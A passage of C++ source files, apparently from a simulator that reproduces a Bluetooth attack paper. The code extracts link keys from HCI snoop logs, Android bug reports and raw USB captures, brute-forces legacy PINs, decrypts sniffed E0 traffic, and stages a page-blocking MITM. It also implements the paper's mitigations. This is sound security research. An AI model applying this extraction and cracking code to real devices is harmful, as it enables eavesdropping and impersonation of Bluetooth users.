  void load_state(state::StateReader& r, state::RestoreMode mode) override;

 protected:
  [[nodiscard]] SimTime transit_delay(std::size_t wire_bytes) const override {
    return overhead_us_ + static_cast<SimTime>(wire_bytes) / 12;  // ~12 MB/s
  }

  void on_wire(hci::Direction direction, const hci::HciPacket& packet) override;

 private:
  SimTime overhead_us_;
  std::vector<FrameObserver> frame_observers_;
};

}  // namespace blap::transport
