// usb_extractor.hpp — pulling link keys out of a raw USB capture (§IV-B).
//
// The paper's method verbatim: convert the captured binary stream to ASCII
// hex (BinaryToHex), then text-search for "0b 04 16" — the little-endian
// opcode of HCI_Link_Key_Request_Reply followed by its parameter length
// (0x16 = 22 bytes) — and read the six address bytes and sixteen key bytes
// that follow. The search runs over the raw stream, so it works without
// understanding the capture's framing, exactly as the paper's converter did
// amid "lots of HCI and NULL data".
#pragma once

#include <string>
#include <vector>

#include "core/snoop_extractor.hpp"
#include "transport/usb_sniffer.hpp"

namespace blap::core {

/// Scan a raw binary USB capture for Link_Key_Request_Reply payloads.
[[nodiscard]] std::vector<ExtractedKey> extract_link_keys_from_usb(BytesView raw_stream);

/// The paper's full pipeline: raw stream -> hex ASCII -> pattern search.
/// Returns both the converter output (for inspection) and the keys.
struct UsbExtractionResult {
  std::string hex_ascii;             // BinaryToHex output
  std::vector<ExtractedKey> keys;    // everything the search found
  std::size_t pattern_hits = 0;      // occurrences of the 0b 04 16 pattern
};
[[nodiscard]] UsbExtractionResult run_usb_extraction(const transport::UsbSniffer& sniffer);

}  // namespace blap::core
