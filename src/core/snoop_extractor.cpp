#include "core/snoop_extractor.hpp"

#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::core {

const char* to_string(KeySource source) {
  switch (source) {
    case KeySource::kLinkKeyRequestReply: return "HCI_Link_Key_Request_Reply";
    case KeySource::kLinkKeyNotification: return "HCI_Link_Key_Notification";
  }
  return "?";
}

std::vector<ExtractedKey> extract_link_keys(const hci::SnoopLog& log) {
  std::vector<ExtractedKey> out;
  std::size_t frame = 0;
  for (const auto& record : log.records()) {
    ++frame;
    const auto& packet = record.packet;
    if (packet.type == hci::PacketType::kCommand &&
        packet.command_opcode() == hci::op::kLinkKeyRequestReply) {
      auto params = packet.command_params();
      if (!params) continue;
      auto cmd = hci::LinkKeyRequestReplyCmd::decode(*params);
      if (!cmd) continue;
      out.push_back(ExtractedKey{cmd->bdaddr, cmd->link_key,
                                 KeySource::kLinkKeyRequestReply, record.timestamp_us, frame});
    } else if (packet.type == hci::PacketType::kEvent &&
               packet.event_code() == hci::ev::kLinkKeyNotification) {
      auto params = packet.event_params();
      if (!params) continue;
      auto evt = hci::LinkKeyNotificationEvt::decode(*params);
      if (!evt) continue;
      out.push_back(ExtractedKey{evt->bdaddr, evt->link_key, KeySource::kLinkKeyNotification,
                                 record.timestamp_us, frame});
    }
  }
  return out;
}

std::optional<ExtractedKey> extract_link_key_for(const hci::SnoopLog& log, const BdAddr& peer) {
  std::optional<ExtractedKey> latest;
  for (const auto& key : extract_link_keys(log)) {
    if (key.peer == peer) latest = key;
  }
  return latest;
}

}  // namespace blap::core
