// bug_report.hpp — the Android bug report exfiltration channel (§IV-A).
//
// The paper's HCI-dump extraction does not read the snoop file directly —
// Android stores it in an inaccessible directory ('data/misc/bluedroid/
// logs'). Instead the attacker generates an *Android bug report*, which any
// user can trigger from developer options "without any system access
// permission" (ref [22]), and which embeds the snoop log base64-encoded in
// its text body. These helpers reproduce both halves: the platform side
// that packages a bug report, and the attack side that carves the snoop
// back out of one.
#pragma once

#include <optional>
#include <string>

#include "core/device.hpp"
#include "hci/snoop.hpp"

namespace blap::core {

/// Package a device's state into a bug-report-shaped text document:
/// system properties, a dumpsys-like Bluetooth section, and — when the snoop
/// log is enabled — the btsnoop file base64-embedded between BEGIN/END
/// markers, exactly the structure the extraction tooling looks for.
[[nodiscard]] std::string generate_bug_report(const Device& device, SimTime at);

/// Carve the btsnoop attachment out of a bug report. Returns nullopt when
/// the report carries no snoop section or the attachment fails to parse.
[[nodiscard]] std::optional<hci::SnoopLog> extract_snoop_from_bug_report(
    const std::string& report);

}  // namespace blap::core
