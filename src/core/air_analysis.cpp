#include "core/air_analysis.hpp"

#include "crypto/e0.hpp"

namespace blap::core {

namespace {
crypto::LinkKey xor16(const crypto::LinkKey& a, const crypto::LinkKey& b) {
  crypto::LinkKey out{};
  for (std::size_t i = 0; i < out.size(); ++i) out[i] = a[i] ^ b[i];
  return out;
}

crypto::Rand128 to_rand128(BytesView v) {
  crypto::Rand128 out{};
  std::copy_n(v.begin(), std::min<std::size_t>(v.size(), 16), out.begin());
  return out;
}
}  // namespace

std::optional<LegacyPairingCapture> parse_legacy_pairing(
    const std::vector<radio::SniffedFrame>& frames) {
  LegacyPairingCapture capture;
  bool have_in_rand = false, have_comb_i = false, have_comb_r = false;
  bool have_au_rand = false, have_sres = false;
  BdAddr au_rand_sender;

  for (const auto& frame : frames) {
    auto pdu = controller::LmpPdu::from_air_frame(frame.frame);
    if (!pdu) continue;
    switch (pdu->opcode) {
      case controller::LmpOpcode::kInRand:
        capture.initiator = frame.sender;
        capture.responder = frame.receiver;
        capture.in_rand = to_rand128(pdu->payload);
        have_in_rand = true;
        break;
      case controller::LmpOpcode::kCombKey: {
        if (!have_in_rand || pdu->payload.size() < 16) break;
        crypto::LinkKey masked{};
        std::copy_n(pdu->payload.begin(), 16, masked.begin());
        if (frame.sender == capture.initiator) {
          capture.masked_comb_initiator = masked;
          have_comb_i = true;
        } else {
          capture.masked_comb_responder = masked;
          have_comb_r = true;
        }
        break;
      }
      case controller::LmpOpcode::kAuRand:
        if (have_comb_i && have_comb_r && !have_au_rand) {
          capture.au_rand = to_rand128(pdu->payload);
          capture.claimant = frame.receiver;  // the claimant answers; its
                                              // address feeds E1
          au_rand_sender = frame.sender;
          have_au_rand = true;
        }
        break;
      case controller::LmpOpcode::kSres:
        if (have_au_rand && !have_sres && frame.sender == capture.claimant &&
            pdu->payload.size() >= 4) {
          std::copy_n(pdu->payload.begin(), 4, capture.sres.begin());
          have_sres = true;
        }
        break;
      default:
        break;
    }
  }
  if (!(have_in_rand && have_comb_i && have_comb_r && have_au_rand && have_sres))
    return std::nullopt;
  return capture;
}

std::optional<crypto::LinkKey> try_pin(const LegacyPairingCapture& capture,
                                       const std::string& pin) {
  const Bytes pin_bytes(pin.begin(), pin.end());
  const crypto::LinkKey kinit =
      crypto::e22(capture.in_rand, pin_bytes, capture.initiator);
  const crypto::LinkKey lk_rand_i = xor16(capture.masked_comb_initiator, kinit);
  const crypto::LinkKey lk_rand_r = xor16(capture.masked_comb_responder, kinit);
  const crypto::LinkKey candidate =
      crypto::combination_key(crypto::e21(lk_rand_i, capture.initiator),
                              crypto::e21(lk_rand_r, capture.responder));
  const auto check = crypto::e1(candidate, capture.au_rand, capture.claimant);
  if (ct_equal(BytesView(check.sres.data(), check.sres.size()),
               BytesView(capture.sres.data(), capture.sres.size()))) {
    return candidate;
  }
  return std::nullopt;
}

PinCrackResult crack_pin(const LegacyPairingCapture& capture, std::size_t max_digits) {
  PinCrackResult result;
  // Enumerate numeric PINs the way users choose them: by length, counting up.
  for (std::size_t digits = 1; digits <= max_digits; ++digits) {
    std::uint64_t limit = 1;
    for (std::size_t d = 0; d < digits; ++d) limit *= 10;
    for (std::uint64_t n = 0; n < limit; ++n) {
      std::string pin = std::to_string(n);
      pin.insert(pin.begin(), digits - pin.size(), '0');
      ++result.attempts;
      if (auto key = try_pin(capture, pin)) {
        result.found = true;
        result.pin = std::move(pin);
        result.link_key = *key;
        return result;
      }
    }
  }
  return result;
}

std::optional<std::vector<DecryptedPayload>> decrypt_captured_traffic(
    const std::vector<radio::SniffedFrame>& frames, const crypto::LinkKey& link_key) {
  // Pass 1: reconstruct the security context the controllers negotiated —
  // the last challenge before encryption start gives the ACO; the
  // LMP_start_encryption_req gives EN_RAND; the sender of
  // LMP_host_connection_req is the master (its BD_ADDR keys E0).
  std::optional<BdAddr> master;
  std::optional<crypto::Aco> aco;
  std::optional<crypto::Rand128> en_rand;
  bool encrypted = false;
  SimTime encryption_start = 0;

  for (const auto& frame : frames) {
    auto pdu = controller::LmpPdu::from_air_frame(frame.frame);
    if (!pdu) continue;
    switch (pdu->opcode) {
      case controller::LmpOpcode::kHostConnectionReq:
        master = frame.sender;
        break;
      case controller::LmpOpcode::kAuRand: {
        if (encrypted) break;
        // The receiver answers this challenge; E1 binds ITS address.
        const auto out = crypto::e1(link_key, to_rand128(pdu->payload), frame.receiver);
        aco = out.aco;
        break;
      }
      case controller::LmpOpcode::kStartEncryptionReq:
        en_rand = to_rand128(pdu->payload);
        break;
      case controller::LmpOpcode::kAccepted:
        if (!pdu->payload.empty() &&
            pdu->payload[0] ==
                static_cast<std::uint8_t>(controller::LmpOpcode::kStartEncryptionReq)) {
          encrypted = true;
          encryption_start = frame.timestamp_us;
        }
        break;
      default:
        break;
    }
  }
  if (!master || !aco || !en_rand || !encrypted) return std::nullopt;

  const crypto::EncryptionKey kc = crypto::e3(link_key, *en_rand, *aco);

  // Pass 2: decrypt every post-encryption ACL frame, tracking each
  // direction's E0 packet counter exactly as the controllers do.
  std::vector<DecryptedPayload> out;
  std::uint32_t counter_from_master = 0;
  std::uint32_t counter_from_slave = 0;
  for (const auto& frame : frames) {
    if (frame.timestamp_us < encryption_start) continue;
    auto acl = controller::parse_acl_air_frame(frame.frame);
    if (!acl) continue;
    std::uint32_t& counter =
        (frame.sender == *master) ? counter_from_master : counter_from_slave;
    crypto::E0Cipher cipher(kc, *master, counter++);
    Bytes plaintext = std::move(*acl);
    cipher.crypt(plaintext);
    out.push_back(DecryptedPayload{frame.timestamp_us, frame.sender, std::move(plaintext)});
  }
  return out;
}

}  // namespace blap::core
