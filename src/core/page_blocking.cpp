#include "core/page_blocking.hpp"

#include "common/log.hpp"

namespace blap::core {

PageBlockingReport PageBlockingAttack::run(Simulation& sim, Device& attacker,
                                           Device& accessory, Device& target,
                                           const PageBlockingOptions& options) {
  PageBlockingReport report;
  const BdAddr m_addr = target.address();
  const BdAddr c_addr = accessory.address();

  obs::Observer* obs = sim.observer();
  const std::uint32_t a_tid = obs != nullptr ? obs->device_tid(attacker.spec().name) : 0;
  if (obs != nullptr) obs->count("attack.page_blocking.runs");

  // Step 1: A sets NoInputNoOutput to force Just Works later.
  attacker.host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  // Step 2: A impersonates C (address + hands-free class of device).
  attacker.spoof_identity(c_addr, ClassOfDevice(ClassOfDevice::kHandsFree));
  if (obs != nullptr && obs->tracing())
    obs->instant(sim.now(), a_tid, obs::Layer::kAttack, "spoof_identity",
                 strfmt("A now answers as C (%s, NoInputNoOutput)", c_addr.to_string().c_str()));
  // A's host will hold the PLOC once the connection completes (Fig. 13).
  attacker.host().hooks().ploc_delay = options.ploc_hold;

  // M records its HCI dump so we can check the Fig. 12b flow afterwards.
  // (For devices without a dump — the iPhone row — the same analysis runs on
  // A's dump in the paper; here the tap exists on every simulated device.)
  target.host().config().hci_dump_available = true;
  target.host().enable_snoop(true);

  // Step 3: A establishes the connection to M and stays in PLOC.
  const std::uint64_t connect_span =
      obs != nullptr ? obs->begin_span(sim.now(), a_tid, obs::Layer::kAttack, "ploc_connect",
                                       "A pages M, then stalls its own host")
                     : 0;
  bool connected = false;
  attacker.host().connect_only(m_addr, [&](hci::Status status) {
    connected = status == hci::Status::kSuccess;
  });
  sim.run_for(3 * kSecond);
  // A's host is stalled inside PLOC, so its callback has not fired yet; the
  // ground truth is M's side of the link.
  report.ploc_established = target.host().has_acl(c_addr);
  if (obs != nullptr) {
    obs->count(report.ploc_established ? "attack.page_blocking.ploc_established"
                                       : "attack.page_blocking.ploc_failed");
    if (connect_span != 0)
      obs->end_span(sim.now(), connect_span,
                    report.ploc_established ? "PLOC up (M sees an ACL from \"C\")"
                                            : "no PLOC — M never saw the connection");
  }
  if (!report.ploc_established) {
    sim.run_for(options.window);
    return report;
  }

  // Optional keep-alive: the attack tooling (below the stalled host) sends
  // L2CAP echo requests on the new link so M's idle timer keeps resetting.
  EventHandle keepalive_timer;
  std::function<void()> send_keepalive = [&] {
    // The attacker reads the connection handle from its own controller's
    // traffic; handles are small integers assigned per controller, and the
    // PLOC link is A's only connection: probe the first few.
    for (hci::ConnectionHandle handle = 1; handle <= 4; ++handle) {
      ByteWriter echo;
      echo.u16(0x0001);                                 // L2CAP signaling CID
      echo.u8(0x08).u8(0xEE).u16(4).raw(Bytes{'b', 'l', 'a', 'p'});  // echo req
      attacker.transport().send(hci::Direction::kHostToController,
                                hci::make_acl(handle, echo.data()));
    }
    keepalive_timer = sim.scheduler().schedule_in(options.keepalive_interval, send_keepalive);
  };
  if (options.keepalive) send_keepalive();

  // Steps 4-6: M's user discovers devices and initiates pairing with "C".
  bool m_done = false;
  hci::Status m_status = hci::Status::kSuccess;
  sim.scheduler().schedule_in(options.pairing_delay, [&] {
    target.host().discover(2, [&](std::vector<host::HostStack::Discovered> found) {
      // C answers the inquiry (step 5). The user selects it and pairs.
      bool saw_c = false;
      for (const auto& device : found)
        if (device.address == c_addr) saw_c = true;
      if (!saw_c) BLAP_WARN("attack", "victim did not discover C during inquiry");
      target.host().pair(c_addr, [&](hci::Status status) {
        m_done = true;
        m_status = status;
      });
    });
  });

  const std::uint64_t window_span =
      obs != nullptr
          ? obs->begin_span(sim.now(), a_tid, obs::Layer::kAttack, "victim_pairing_window",
                            "waiting for M to discover and pair with the spoofed \"C\"")
          : 0;
  sim.run_for(options.window);
  keepalive_timer.cancel();

  report.pairing_completed = m_done && m_status == hci::Status::kSuccess;
  if (obs != nullptr && window_span != 0)
    obs->end_span(sim.now(), window_span,
                  report.pairing_completed ? "M paired the attacker" : "no pairing");
  report.m_pair_status = m_done ? m_status : hci::Status::kConnectionTimeout;

  // MITM check: M believes it paired C, but the bond key must live in A.
  const auto m_bond = target.host().security().link_key_for(c_addr);
  const auto a_bond = attacker.host().security().link_key_for(m_addr);
  report.mitm_established = report.pairing_completed && m_bond && a_bond && *m_bond == *a_bond;
  report.attacker_holds_link_key = report.mitm_established;
  if (obs != nullptr) {
    obs->count(report.mitm_established ? "attack.page_blocking.mitm_success"
                                       : "attack.page_blocking.mitm_failed");
    if (obs->tracing())
      obs->instant(sim.now(), a_tid, obs::Layer::kAttack, "mitm_verdict",
                   report.mitm_established
                       ? "A holds the bond key M filed under C's address"
                       : "attacker does not hold M's bond key");
  }

  if (const auto* bond = target.host().security().bond_for(c_addr)) {
    report.downgraded_to_just_works =
        bond->key_type == crypto::LinkKeyType::kUnauthenticatedCombinationP192 ||
        bond->key_type == crypto::LinkKeyType::kUnauthenticatedCombinationP256;
  }
  for (const auto& popup : target.host().popup_history()) {
    if (!(popup.peer == c_addr)) continue;
    report.popup_shown |= popup.shown_to_user;
    report.popup_had_numeric_value |= popup.numeric_value.has_value();
  }

  const FlowAnalysis analysis = classify_pairing_flow(target.host().snoop());
  report.m_flow = analysis.flow;
  report.m_flow_table = target.host().snoop().format_table();
  return report;
}

bool PageBlockingAttack::baseline_trial(Simulation& sim, Device& attacker, Device& accessory,
                                        Device& target) {
  const BdAddr c_addr = accessory.address();
  obs::Observer* obs = sim.observer();
  if (obs != nullptr) {
    obs->count("attack.baseline.trials");
    if (obs->tracing())
      obs->instant(sim.now(), obs->device_tid(attacker.spec().name), obs::Layer::kAttack,
                   "baseline_page_race",
                   "A spoofs C but stays passive — the paging race decides who M reaches");
  }
  // The attacker spoofs C and waits in page-scan — but does NOT initiate.
  attacker.host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  attacker.spoof_identity(c_addr, ClassOfDevice(ClassOfDevice::kHandsFree));

  // M initiates pairing with C; the medium resolves the page-scan race
  // between the two devices owning C's address.
  bool done = false;
  hci::Status status = hci::Status::kSuccess;
  target.host().pair(c_addr, [&](hci::Status s) {
    done = true;
    status = s;
  });
  sim.run_for(30 * kSecond);
  if (!done || status != hci::Status::kSuccess) {
    if (obs != nullptr) obs->count("attack.baseline.pair_failed");
    return false;
  }

  // Who got the connection? The winner holds the new bond's link key.
  const auto m_key = target.host().security().link_key_for(c_addr);
  const auto a_key = attacker.host().security().link_key_for(target.address());
  const bool attacker_won = m_key.has_value() && a_key.has_value() && *m_key == *a_key;
  if (obs != nullptr)
    obs->count(attacker_won ? "attack.baseline.race_won" : "attack.baseline.race_lost");
  return attacker_won;
}

}  // namespace blap::core
