// link_key_extraction.hpp — the paper's first attack, end to end (§IV, Fig. 5).
//
// Scenario roles (paper §III-A):
//   M — the hard target holding sensitive data (a phone),
//   C — a soft-target accessory bonded to M (car-kit / headset / PC),
//   A — the attacker's device (modified host stack).
//
// Procedure reproduced step by step:
//   1. A arranges HCI recording on C (HCI dump or USB sniff),
//   2. A spoofs M's BD_ADDR,
//   3. C initiates reconnection + LMP authentication toward "M" (really A);
//      C's controller pulls the bonded key from C's host over the HCI,
//   4. the key lands in C's HCI record,
//   5. A's host *ignores* its own HCI_Link_Key_Request, so C's challenge
//      times out and the link drops WITHOUT an authentication failure,
//   6. A parses the record and extracts the key,
//   7. A spoofs C, installs fake bonding info with the key, and validates by
//      opening a PAN (tethering) connection to M — success without a new
//      pairing proves the key.
#pragma once

#include <optional>
#include <string>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"
#include "core/usb_extractor.hpp"

namespace blap::core {

struct LinkKeyExtractionOptions {
  /// Capture channel on C: HCI dump (Android/BlueZ) or USB sniff (Windows).
  bool use_usb_sniff = false;
  /// Step 7: validate the key by impersonating C against M over PAN.
  bool validate_by_impersonation = true;
  /// Ablation (§ DESIGN.md 5.3): instead of stalling the challenge, answer
  /// it with a wrong key — triggering an authentication failure that purges
  /// C's bond, demonstrating why the stall matters.
  bool answer_with_wrong_key = false;
  /// How long to let C's doomed authentication attempt run.
  SimTime attack_window = 40 * kSecond;
};

struct LinkKeyExtractionReport {
  bool bonded_precondition = false;      // C and M shared a key before attack
  bool key_extracted = false;            // a key for M came out of the capture
  bool key_matches_bond = false;         // == the key C actually stores
  crypto::LinkKey extracted_key{};
  KeySource key_source = KeySource::kLinkKeyRequestReply;
  std::size_t keys_in_capture = 0;

  hci::Status c_auth_status = hci::Status::kSuccess;  // what C's host saw
  bool c_bond_survived = false;          // the stealth property of step 5

  bool impersonation_attempted = false;
  bool impersonation_succeeded = false;  // PAN up with no new pairing
  bool impersonation_repaired = false;   // a NEW pairing happened (failure)

  std::string capture_channel;           // "HCI dump" / "USB sniff"
};

class LinkKeyExtractionAttack {
 public:
  /// Run the attack inside an existing simulation. The devices must already
  /// exist; C and M must NOT yet be bonded (the attack bonds them first to
  /// establish the precondition, mirroring the paper's testbed setup).
  static LinkKeyExtractionReport run(Simulation& sim, Device& attacker, Device& accessory,
                                     Device& target, const LinkKeyExtractionOptions& options = {});
};

}  // namespace blap::core
