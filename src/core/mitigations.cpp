#include "core/mitigations.hpp"

#include <memory>

#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::core {

bool is_key_bearing(const hci::HciPacket& packet) {
  if (packet.type == hci::PacketType::kCommand)
    return packet.command_opcode() == hci::op::kLinkKeyRequestReply;
  if (packet.type == hci::PacketType::kEvent)
    return packet.event_code() == hci::ev::kLinkKeyNotification;
  return false;
}

hci::SnoopLog::Filter make_link_key_snoop_filter(SnoopFilterMode mode, std::uint64_t rng_seed) {
  auto rng = std::make_shared<Rng>(rng_seed);
  return [mode, rng](hci::SnoopRecord record) -> std::optional<hci::SnoopRecord> {
    if (!is_key_bearing(record.packet)) return record;
    switch (mode) {
      case SnoopFilterMode::kHeaderOnly: {
        // Keep only the header: for a command, opcode + length (3 bytes);
        // for an event, code + length (2 bytes). orig_len keeps the truth.
        const std::size_t header =
            record.packet.type == hci::PacketType::kCommand ? 3u : 2u;
        record.original_length =
            static_cast<std::uint32_t>(record.packet.to_wire().size());
        if (record.packet.payload.size() > header) record.packet.payload.resize(header);
        return record;
      }
      case SnoopFilterMode::kRandomizeKey: {
        const std::size_t key_offset =
            record.packet.type == hci::PacketType::kCommand ? 3u + 6u : 2u + 6u;
        if (record.packet.payload.size() >= key_offset + 16) {
          const auto random = rng->bytes<16>();
          std::copy(random.begin(), random.end(),
                    record.packet.payload.begin() + static_cast<std::ptrdiff_t>(key_offset));
        }
        return record;
      }
    }
    return record;
  };
}

void apply_snoop_filter(Device& device, SnoopFilterMode mode) {
  device.host().snoop().set_filter(make_link_key_snoop_filter(mode));
}

void apply_hci_payload_encryption(Device& device, std::uint64_t key_seed) {
  Rng rng(key_seed);
  device.transport().set_link_key_payload_protection(rng.bytes<16>());
}

void apply_page_blocking_detection(Device& device) {
  device.host().config().detect_page_blocking = true;
}

}  // namespace blap::core
