#include "core/usb_extractor.hpp"

#include "transport/bin2hex.hpp"

namespace blap::core {

std::vector<ExtractedKey> extract_link_keys_from_usb(BytesView raw_stream) {
  std::vector<ExtractedKey> out;
  if (raw_stream.size() < 25) return out;
  // Search for opcode 0x040B (LE: 0b 04) + length 0x16, then decode the
  // 6-byte wire-order BD_ADDR and 16-byte wire-order (LSB-first) key.
  for (std::size_t i = 0; i + 3 + 22 <= raw_stream.size(); ++i) {
    if (raw_stream[i] != 0x0b || raw_stream[i + 1] != 0x04 || raw_stream[i + 2] != 0x16)
      continue;
    ByteReader r(raw_stream.subspan(i + 3, 22));
    auto addr = BdAddr::from_wire(r);
    auto key_wire = r.array<16>();
    if (!addr || !key_wire) continue;
    ExtractedKey key;
    key.peer = *addr;
    for (std::size_t k = 0; k < 16; ++k) key.key[k] = (*key_wire)[15 - k];
    key.source = KeySource::kLinkKeyRequestReply;
    key.frame_index = i;  // byte offset in the raw capture
    out.push_back(key);
  }
  return out;
}

UsbExtractionResult run_usb_extraction(const transport::UsbSniffer& sniffer) {
  UsbExtractionResult result;
  result.hex_ascii = transport::bin_to_hex_ascii(sniffer.raw_stream());

  // Count the textual pattern hits the way the paper's manual search would:
  // over the joined hex (line breaks removed so they cannot split a match).
  std::string joined = result.hex_ascii;
  for (auto& c : joined)
    if (c == '\n') c = ' ';
  const std::string pattern = "0b 04 16";
  for (std::size_t pos = joined.find(pattern); pos != std::string::npos;
       pos = joined.find(pattern, pos + 1)) {
    // Only count matches aligned on byte boundaries (every third character).
    if (pos % 3 == 0) ++result.pattern_hits;
  }

  result.keys = extract_link_keys_from_usb(sniffer.raw_stream());
  return result;
}

}  // namespace blap::core
