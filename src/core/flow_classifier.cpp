#include "core/flow_classifier.hpp"

#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::core {

const char* to_string(PairingFlow flow) {
  switch (flow) {
    case PairingFlow::kNone: return "no pairing";
    case PairingFlow::kNormal: return "normal pairing (Fig. 12a)";
    case PairingFlow::kPageBlocked: return "pairing under page blocking (Fig. 12b)";
    case PairingFlow::kInconsistent: return "inconsistent flow";
  }
  return "?";
}

FlowAnalysis classify_pairing_flow(const hci::SnoopLog& log) {
  FlowAnalysis analysis;
  std::size_t frame = 0;
  bool create_before_auth = false;
  bool accept_before_auth = false;

  for (const auto& record : log.records()) {
    ++frame;
    const auto& packet = record.packet;
    if (packet.type == hci::PacketType::kCommand) {
      const auto opcode = packet.command_opcode();
      if (!opcode) continue;
      switch (*opcode) {
        case hci::op::kCreateConnection:
          analysis.saw_create_connection = true;
          if (!analysis.saw_authentication_requested) create_before_auth = true;
          break;
        case hci::op::kAcceptConnectionRequest:
          analysis.saw_accept_connection = true;
          if (!analysis.saw_authentication_requested) accept_before_auth = true;
          break;
        case hci::op::kAuthenticationRequested:
          if (!analysis.saw_authentication_requested) analysis.pairing_frame = frame;
          analysis.saw_authentication_requested = true;
          break;
        case hci::op::kLinkKeyRequestNegativeReply:
          analysis.saw_link_key_negative_reply = true;
          break;
        default: break;
      }
    } else if (packet.type == hci::PacketType::kEvent) {
      const auto code = packet.event_code();
      if (!code) continue;
      if (*code == hci::ev::kConnectionRequest) analysis.saw_connection_request = true;
      if (*code == hci::ev::kIoCapabilityRequest) analysis.saw_io_capability_request = true;
    }
  }

  if (!analysis.saw_authentication_requested) {
    analysis.flow = PairingFlow::kNone;
    return analysis;
  }
  // Fig. 12b signature: the device accepted an inbound connection and later
  // initiated pairing on it — connection responder AND pairing initiator.
  if (analysis.saw_connection_request && accept_before_auth && !create_before_auth) {
    analysis.flow = PairingFlow::kPageBlocked;
    return analysis;
  }
  // Fig. 12a signature: the device created the connection itself.
  if (create_before_auth && !analysis.saw_connection_request) {
    analysis.flow = PairingFlow::kNormal;
    return analysis;
  }
  analysis.flow = PairingFlow::kInconsistent;
  return analysis;
}

}  // namespace blap::core
