// air_analysis.hpp — offline analysis of passively sniffed air traffic.
//
// Two capabilities built on the radio sniffer:
//
//  * Legacy PIN cracking — the pre-SSP weakness (paper §II-C1, refs [14]
//    btpincrack and [15] Shaked–Wool): a sniffer that saw one legacy pairing
//    (IN_RAND, both masked combination-key contributions) plus one
//    challenge–response (AU_RAND, SRES) can brute-force the PIN offline:
//    guess PIN → Kinit' = E22 → unmask LK_RANDs → candidate link key →
//    check E1(key', AU_RAND, claimant) == SRES. Four digits fall instantly.
//
//  * Retroactive decryption — the paper's §IV-C observation that an
//    extracted link key decrypts "not only the future, but also the past
//    communications of M captured by air-sniffers": with the link key, the
//    sniffed AU_RAND gives the ACO, the sniffed EN_RAND gives Kc via E3,
//    and E0 unrolls every recorded ciphertext.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "controller/lmp.hpp"
#include "crypto/e1.hpp"
#include "radio/radio_medium.hpp"

namespace blap::core {

/// A passive recorder attachable to the radio medium.
class AirSniffer {
 public:
  explicit AirSniffer(radio::RadioMedium& medium) {
    medium.add_sniffer([this](const radio::SniffedFrame& frame) { frames_.push_back(frame); });
  }

  [[nodiscard]] const std::vector<radio::SniffedFrame>& frames() const { return frames_; }
  void clear() { frames_.clear(); }

 private:
  std::vector<radio::SniffedFrame> frames_;
};

/// Everything a PIN-cracking attack needs from one sniffed legacy pairing.
struct LegacyPairingCapture {
  BdAddr initiator;  // sender of LMP_in_rand
  BdAddr responder;
  crypto::Rand128 in_rand{};
  crypto::LinkKey masked_comb_initiator{};  // LK_RAND_A xor Kinit
  crypto::LinkKey masked_comb_responder{};  // LK_RAND_B xor Kinit
  crypto::Rand128 au_rand{};                // first post-pairing challenge
  BdAddr claimant;                          // who answered it (its addr feeds E1)
  crypto::Sres sres{};
};

/// Reconstruct the capture from a sniffed frame sequence. Returns nullopt if
/// any of the five required messages is missing.
[[nodiscard]] std::optional<LegacyPairingCapture> parse_legacy_pairing(
    const std::vector<radio::SniffedFrame>& frames);

struct PinCrackResult {
  bool found = false;
  std::string pin;
  crypto::LinkKey link_key{};
  std::uint64_t attempts = 0;
};

/// Offline brute force over numeric PINs of 1..max_digits digits.
[[nodiscard]] PinCrackResult crack_pin(const LegacyPairingCapture& capture,
                                       std::size_t max_digits = 6);

/// Test a single PIN guess against a capture (the inner loop of crack_pin,
/// exposed for benchmarks). Returns the candidate key when the guess checks.
[[nodiscard]] std::optional<crypto::LinkKey> try_pin(const LegacyPairingCapture& capture,
                                                     const std::string& pin);

/// One decrypted ACL payload from a recorded session.
struct DecryptedPayload {
  SimTime timestamp_us = 0;
  BdAddr sender;
  Bytes plaintext;
};

/// Retroactively decrypt sniffed encrypted ACL traffic using a (stolen)
/// link key: recover ACO from the last sniffed challenge, Kc from the
/// sniffed EN_RAND via E3, then run E0 per direction.
/// Returns nullopt when the capture lacks the needed LMP context.
[[nodiscard]] std::optional<std::vector<DecryptedPayload>> decrypt_captured_traffic(
    const std::vector<radio::SniffedFrame>& frames, const crypto::LinkKey& link_key);

}  // namespace blap::core
