// mitigations.hpp — the defenses of paper §VII, deployable in the simulator.
//
// Link key extraction (§VII-A):
//   1. Snoop filtering — the HCI dump inspects packet headers and withholds
//      the payload of key-bearing messages. Two granularities, matching the
//      paper's proposal to "log only the first four bytes of the header or
//      replace the link key with a random value".
//   2. HCI payload encryption — host and controller encrypt the key field in
//      transit, defeating hardware (UART/USB) sniffing too. Implemented in
//      HciTransport::set_link_key_payload_protection(); helpers here.
//
// Page blocking (§VII-B):
//   3. Role/IO-capability check — a host that finds itself pairing-initiator
//      on a connection it did not initiate, with a NoInputNoOutput connection
//      initiator, drops the pairing. Implemented in
//      HostConfig::detect_page_blocking; helper here.
#pragma once

#include "common/rng.hpp"
#include "core/device.hpp"
#include "hci/snoop.hpp"

namespace blap::core {

enum class SnoopFilterMode : std::uint8_t {
  /// Log only the packet-type byte plus the 3-byte header of key-bearing
  /// packets (orig_len records the truncation).
  kHeaderOnly,
  /// Keep the record shape but overwrite the 16 key bytes with random data.
  kRandomizeKey,
};

/// Build a snoop filter implementing §VII-A1. The returned filter passes
/// all non-key-bearing records through untouched.
[[nodiscard]] hci::SnoopLog::Filter make_link_key_snoop_filter(SnoopFilterMode mode,
                                                               std::uint64_t rng_seed = 7);

/// Apply §VII-A1 to a device's HCI dump.
void apply_snoop_filter(Device& device, SnoopFilterMode mode);

/// Apply §VII-A2: derive a host–controller session key and turn on payload
/// protection on the device's transport.
void apply_hci_payload_encryption(Device& device, std::uint64_t key_seed = 2022);

/// Apply §VII-B: enable the page blocking detector on a (victim) device.
void apply_page_blocking_detection(Device& device);

/// True when the given packet carries a plaintext link key (the predicate
/// all §VII-A defenses share).
[[nodiscard]] bool is_key_bearing(const hci::HciPacket& packet);

}  // namespace blap::core
