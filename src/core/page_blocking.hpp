// page_blocking.hpp — the paper's second attack (§V) and the Table II race.
//
// Two entry points:
//
//   * run() — the full page blocking attack: A (NoInputNoOutput, spoofing C)
//     pages M first and holds a Physical-Layer-Only Connection; when M's
//     user pairs "with C", M's host reuses the existing ACL and the pairing
